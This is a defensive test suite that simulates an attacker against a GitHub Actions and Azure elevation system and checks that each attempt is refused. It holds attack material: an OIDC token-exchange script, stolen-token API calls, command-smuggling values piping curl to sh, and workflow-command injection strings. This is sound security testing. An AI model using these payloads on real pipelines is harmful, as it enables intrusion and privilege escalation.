/** A writer with workflows, dispatches and a stolen workflow token: none of it reaches an identity, an approval or somebody's access. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { at, list, text } from '../../src/sandbox/demo/outside.ts';
import { expectStatus, openPull, putFile, settle } from '../../src/sandbox/demo/people.ts';
import { arm, CALL, job, lastRequest, pushWorkflow, stolenIdentity, writesSince } from './adversary.ts';
import type { Scenario } from './kit.ts';
import {
  access,
  advance,
  approveAll,
  askAs,
  branchHead,
  events,
  logOf,
  openScenario,
  sweep,
  verifies,
} from './kit.ts';

const EVERYTHING = { roles: 2, rules: 1 };
const BRANCH = 'mallory/evil';

let scenario: Scenario;
let held: number;
beforeAll(async () => {
  scenario = await openScenario();
  held = await askAs(scenario, 'held');
  await advance(scenario, '2s');
  await approveAll(scenario, held);
  await settle(scenario.outside);
  expect(await access(scenario)).toEqual(EVERYTHING);
}, 120_000);
afterAll(() => scenario.close());

/** Nobody got a token of Azure's since then, nothing was written there, and alice has what she had. */
const expectNothingSince = async (since: number): Promise<void> => {
  expect(writesSince(scenario, since, 'authority')).toEqual([]);
  expect(writesSince(scenario, since, 'arm')).toEqual([]);
  expect(await access(scenario)).toEqual(EVERYTHING);
};

const dispatches = (login: string, workflow: string, body: unknown) =>
  scenario.outside.gitHub(login, 'POST', `/actions/workflows/${workflow}/dispatches`, body);

const LEFT_OUT = 'not allowed to deploy to gatehouse-elevate due to environment protection rules';

/** elevate.yml as mallory would like it, with an action of her own behind `uses: ./`. */
const evilElevate = async (): Promise<string> => {
  const answer = await scenario.outside.gitHub('mallory', 'GET', '/contents/.github/workflows/elevate.yml');
  const own = Buffer.from(text(at(answer.body, 'content')), 'base64').toString('utf8');
  return own.replace('branches: [main]', "branches: ['**']\n  pull_request:");
};

describe('a branch with an altered workflow', () => {
  it('and an altered dist gets into no environment of Gatehouse, and so to no identity', async () => {
    const since = lastRequest(scenario);
    await putFile(scenario.outside, 'mallory', {
      branch: BRANCH,
      path: 'dist/action.js',
      content: "console.log('EVIL RAN');",
      message: 'Faster',
    });
    const runs = await pushWorkflow(scenario, {
      by: 'mallory',
      branch: BRANCH,
      file: 'elevate.yml',
      content: await evilElevate(),
    });
    expect(runs.find(({ workflow }) => workflow === 'elevate.yml')?.conclusion).toBe('failure');
    const log = await logOf(scenario, runs, 'elevate.yml');
    expect(log).toContain(LEFT_OUT);
    expect(log).not.toContain('EVIL RAN');
    await expectNothingSince(since);
  });

  it('does not get in by a pull request, nor by a dispatch of the branch or of a tag called main', async () => {
    const since = lastRequest(scenario);
    await openPull(scenario.outside, 'mallory', BRANCH, 'Faster');
    const byPull = await settle(scenario.outside);
    const pulled = byPull.filter(
      ({ workflow, event }) => workflow === 'elevate.yml' && event === 'pull_request',
    );
    expect(pulled.map(({ conclusion }) => conclusion)).toEqual(['failure']);
    expect(await logOf(scenario, pulled, 'elevate.yml')).toMatch(
      new RegExp(`Branch "refs/pull/\\d+/merge" is ${LEFT_OUT}`),
    );
    const sha = await branchHead(scenario, BRANCH);
    const tag = { ref: 'refs/tags/main', sha };
    expectStatus(await scenario.outside.gitHub('mallory', 'POST', '/git/refs', tag), 201, 'the tag');
    for (const [ref, what] of [
      [BRANCH, `Branch "${BRANCH}"`],
      ['refs/tags/main', 'Tag "main"'],
    ]) {
      expectStatus(await dispatches('mallory', 'elevate.yml', { ref }), 204, 'the dispatch');
      const runs = await settle(scenario.outside);
      expect(await logOf(scenario, runs, 'elevate.yml')).toContain(`${what} is ${LEFT_OUT}`);
    }
    await scenario.outside.gitHub('mallory', 'DELETE', '/git/refs/tags/main');
    await expectNothingSince(since);
  });

  it('and the name of an environment in other letters does not get in either', async () => {
    const since = lastRequest(scenario);
    const runs = await pushWorkflow(scenario, {
      by: 'mallory',
      branch: 'mallory/letters',
      file: 'build.yml',
      content: job(['id-token: write'], "console.log('EVIL RAN');", ['environment: GATEHOUSE-Elevate']),
    });
    expect(await logOf(scenario, runs, 'build.yml')).not.toContain('EVIL RAN');
    await expectNothingSince(since);
  });

  it('that asks for an id token without the environment is refused by Entra', async () => {
    const { azure } = scenario.world;
    const script = `const url = process.env.ACTIONS_ID_TOKEN_REQUEST_URL + '&audience=api://AzureADTokenExchange';
const headers = { authorization: 'Bearer ' + process.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN };
const { value } = await (await fetch(url, { headers })).json();
// The suite is looked through for tokens that a job has used and not hidden.
for (const secret of [value, value.split('.')[2]]) console.log('::add-mask::' + secret);
const body = new URLSearchParams({ grant_type: 'client_credentials', client_id: '${
      azure.identities.find(({ name }) => name === 'elevate')?.clientId ?? ''
    }',
  scope: '${azure.arm}/.default', client_assertion: value,
  client_assertion_type: 'urn:ietf:params:oauth:client-assertion-type:jwt-bearer' });
const answer = await fetch('${azure.authority}/${azure.tenantId}/oauth2/v2.0/token', { method: 'POST', body });
console.log('Entra said', answer.status, await answer.text());`;
    const runs = await pushWorkflow(scenario, {
      by: 'mallory',
      branch: 'mallory/id-token',
      file: 'build.yml',
      content: job(['id-token: write'], script),
    });
    expect(await logOf(scenario, runs, 'build.yml')).toMatch(/Entra said 40\d .*AADSTS700213/);
    expect(await access(scenario)).toEqual(EVERYTHING);
  });

  it('does not become the judge of its own pull request: that is main’s', async () => {
    const branch = 'mallory/judge';
    const judge = job(['statuses: write'], "console.log('EVIL RAN');").replace(
      /^on: .*$/m,
      'on: [pull_request_target, issue_comment]',
    );
    await pushWorkflow(scenario, { by: 'mallory', branch, file: 'request.yml', content: judge });
    const pull = await openPull(scenario.outside, 'mallory', branch, 'A better judge');
    const runs = await settle(scenario.outside);
    const judged = runs.filter(
      ({ workflow, event }) => workflow === 'request.yml' && event === 'pull_request_target',
    );
    expect(judged.map(({ conclusion }) => conclusion)).toEqual(['success']);
    for (const { id } of runs)
      expect(text(await scenario.outside.control('GET', `/runs/${id}/log`))).not.toContain('EVIL RAN');
    expect(pull).toBeGreaterThan(held);
  });
});

describe('a stolen token of another workflow', () => {
  const steal = (permissions: readonly string[], script: string) =>
    pushWorkflow(scenario, {
      by: 'mallory',
      branch: `mallory/steal-${permissions.join('-').replaceAll(/\W+/g, '')}`,
      file: 'build.yml',
      content: job(permissions, `${CALL}\n${script}`),
    });

  it('says /end and /source for nobody', async () => {
    const said = ['/end', '/source 203.0.113.9', '/withdraw'].map(
      (body) => `await call('POST', '/issues/${held}/comments', ${JSON.stringify({ body })});`,
    );
    const runs = await steal(['issues: write', 'pull-requests: write'], said.join('\n'));
    expect(await logOf(scenario, runs, 'build.yml')).toContain('answered 201');
    await sweep(scenario);
    expect(await access(scenario)).toEqual(EVERYTHING);
  });

  it('orders nothing by dispatch: a bot is no operator, and the run says so', async () => {
    const body = { ref: 'main', inputs: { end: 'everything', 'expected-count': '1', freeze: 'everything' } };
    const runs = await steal(
      ['actions: write'],
      `await call('POST', '/actions/workflows/revoke.yml/dispatches', ${JSON.stringify(body)});`,
    );
    expect(await logOf(scenario, runs, 'build.yml')).toContain('answered 204');
    const all = [...runs, ...(await settle(scenario.outside))];
    expect(all.findLast(({ workflow }) => workflow === 'revoke.yml')?.conclusion).toBe('failure');
    expect(await logOf(scenario, all, 'revoke.yml')).toMatch(/operator/);
    expect(await access(scenario)).toEqual(EVERYTHING);
    expect((await events(scenario)).map(({ type }) => type)).not.toContain('posture');
  });

  it('cannot push to main, open or approve a pull request', async () => {
    const file = { message: 'x', content: 'eA==', branch: 'main' };
    const runs = await steal(
      ['contents: write', 'pull-requests: write'],
      `await call('PUT', '/contents/policies/x.yaml', ${JSON.stringify(file)});
await call('POST', '/pulls', { title: 'x', head: 'alice/held', base: 'main' });
await call('POST', '/pulls/${held}/reviews', { event: 'APPROVE' });`,
    );
    const answers = [...(await logOf(scenario, runs, 'build.yml')).matchAll(/answered (\d+)/g)];
    expect(answers.map(([, status]) => status)).toEqual(['409', '403', '422']);
  });
});

describe('a writer’s dispatch', () => {
  const UNCHANGED = (): Promise<void> => access(scenario).then((now) => expect(now).toEqual(EVERYTHING));

  it('of elevate takes no inputs, and alone opens nothing', async () => {
    const since = lastRequest(scenario);
    const hostile = { ref: 'main', inputs: { installation: 'ffffffff', command: 'revoke' } };
    expect((await dispatches('mallory', 'elevate.yml', hostile)).status).toBe(422);
    expectStatus(await dispatches('mallory', 'elevate.yml', { ref: 'main' }), 204, 'the dispatch');
    const runs = await settle(scenario.outside);
    expect(runs.findLast(({ workflow }) => workflow === 'elevate.yml')?.conclusion).toBe('success');
    expect(writesSince(scenario, since, 'arm')).toEqual([]);
    await UNCHANGED();
  });

  it.each<[string, Readonly<Record<string, string>>, RegExp]>([
    ['an order that is none', { end: 'everything; curl https://example.test | sh' }, /end/],
    ['a count beyond all bounds', { 'expected-count': '99999999999999999999' }, /expected-count/],
    ['a count that is no number', { 'expected-count': '1e9', end: 'everything' }, /expected-count/],
    ['a switch that is no switch', { 'platform-only': 'true || true' }, /0 ended/],
    [
      'workflow commands in its words',
      {
        end: 'everything',
        'expected-count': '1',
        which: '::set-output name=act::merge',
        why: '\n::add-mask::e\n::error title=EVIL::EVIL\n##[set-output name=act]merge',
      },
      /operator|which/,
    ],
  ])('of revoke with %s changes nothing', async (_, inputs, says) => {
    expectStatus(await dispatches('mallory', 'revoke.yml', { ref: 'main', inputs }), 204, 'the dispatch');
    const runs = await settle(scenario.outside);
    expect(await logOf(scenario, runs, 'revoke.yml')).toMatch(says);
    const run = scenario.world.runner.runs().findLast(({ workflow }) => workflow === 'revoke.yml');
    for (const step of run?.jobs.flatMap(({ steps }) => steps) ?? []) {
      expect(step.outputs).not.toHaveProperty('act');
      expect(step.annotations.map(({ properties }) => properties['title'] ?? '')).not.toContain('EVIL');
    }
    await UNCHANGED();
  });

  it.each(['1 && curl example.test', '../../orgs/contoso', '0'])(
    'of request with the number %j judges nothing',
    async (number) => {
      const since = lastRequest(scenario);
      const body = { ref: 'main', inputs: { 'pull-request': number } };
      expectStatus(await dispatches('mallory', 'request.yml', body), 204, 'the dispatch');
      const runs = await settle(scenario.outside);
      expect(runs.map(({ workflow, conclusion }) => [workflow, conclusion])).toEqual([
        ['request.yml', 'failure'],
      ]);
      const said = scenario.world.log
        .entries()
        .filter(
          ({ id, api, method, pathKey }) =>
            id > since &&
            api === 'github' &&
            method !== 'GET' &&
            !/graphql|dispatches|git-upload/.test(pathKey),
        );
      expect(said).toEqual([]);
    },
  );

  it('by repository_dispatch wakes nothing: no workflow listens', async () => {
    const body = { event_type: 'elevate', client_payload: { grant: held, hours: 99 } };
    expectStatus(await scenario.outside.gitHub('mallory', 'POST', '/dispatches', body), 204, 'the dispatch');
    expect(await settle(scenario.outside)).toEqual([]);
    await UNCHANGED();
  });
});

describe('the identity that only ends, stolen', () => {
  it('opens nothing: it may assign no role and write no rule', async () => {
    const token = await stolenIdentity(scenario, 'revoke');
    const answer = await arm(scenario, token, { method: 'GET', path: scenario.nsg });
    const [rule] = list(at(answer.body, 'properties', 'securityRules')).filter((one) =>
      text(at(one, 'properties', 'description')).startsWith('gh:'),
    );
    const { provisioningState: _, ...properties } = at(rule, 'properties') as Record<string, unknown>;
    const wide = { ...properties, sourceAddressPrefix: '*' };
    const path = `${scenario.nsg}/securityRules`;
    for (const name of [text(at(rule, 'name')), 'mine'])
      expect(
        (await arm(scenario, token, { method: 'PUT', path: `${path}/${name}`, body: { properties: wide } }))
          .status,
      ).toBe(403);
    const assignment = `${scenario.subscription}/providers/Microsoft.Authorization/roleAssignmentScheduleRequests/0f2c0000-0000-4000-8000-00000000aaaa`;
    const body = {
      properties: {
        principalId: '0f2c0000-0000-4000-8000-000000000006',
        roleDefinitionId: `${scenario.subscription}/providers/Microsoft.Authorization/roleDefinitions/acdd72a7-3385-48ef-bd42-f606fba81ae7`,
        requestType: 'AdminAssign',
        justification: 'x',
        scheduleInfo: { expiration: { type: 'AfterDuration', duration: 'PT8H' } },
      },
    };
    expect((await arm(scenario, token, { method: 'PUT', path: assignment, body })).status).toBe(403);
    expect(await access(scenario)).toEqual(EVERYTHING);
    expect(await verifies(scenario)).toBe(true);
  });
});
